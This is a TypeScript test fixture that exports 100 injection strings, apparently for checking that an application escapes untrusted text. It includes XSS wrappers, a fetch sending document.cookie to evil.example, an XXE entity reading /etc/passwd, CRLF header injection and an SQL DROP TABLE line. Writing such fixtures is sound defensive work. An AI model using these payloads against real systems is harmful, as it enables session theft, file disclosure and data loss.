/** Texts of injection attacks: markup, scripts, ends of strings, unusual characters. */
const CODE = [
  'alert(1)',
  'fetch(`//evil.example/`+document.cookie)',
  "parent.postMessage('x','*')",
  'location=`javascript:alert(1)`',
];

const AROUND: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `</ScRiPt ><sCrIpT>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `"><img src=x onerror='${code}'>`,
  (code) => `'><svg onload=${code}>`,
  (code) => `" onmouseover="${code}" x="`,
  (code) => `' autofocus onfocus='${code}' x='`,
  (code) => `</title><script>${code}</script>`,
  (code) => `--><script>${code}</script><!--`,
  (code) => `]]><script>${code}</script><![CDATA[`,
  (code) => `</textarea></style><script>${code}</script>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<a href="javascript:${code}">surf</a>`,
  (code) => `</text><script>${code}</script><text>`,
  (code) => `"};${code};var x={"`,
  (code) => `\${${code}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
];

const ODD = [
  '<!--<script>',
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action=//evil.example><button>Go</button></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<object data=data:text/html,<script>alert(1)</script>>',
  '\u2028alert(1)\u2029',
  '\u202Egnp.exe\u202C',
  '\uFEFF<script>',
  '\u0001\u0008\u000B\u001F\u007F',
  'a\r\nSet-Cookie: a=b\r\n\r\n<script>',
  "'; DROP TABLE activity; --",
  '__proto__',
  "$& $1 $` $'",
  '🏄🏽‍♀️ 中文 العربية \uFFFD\uFFFE',
];

/** 100 texts. */
export const HOSTILE_TEXTS: readonly string[] = [...AROUND.flatMap((around) => CODE.map(around)), ...ODD];
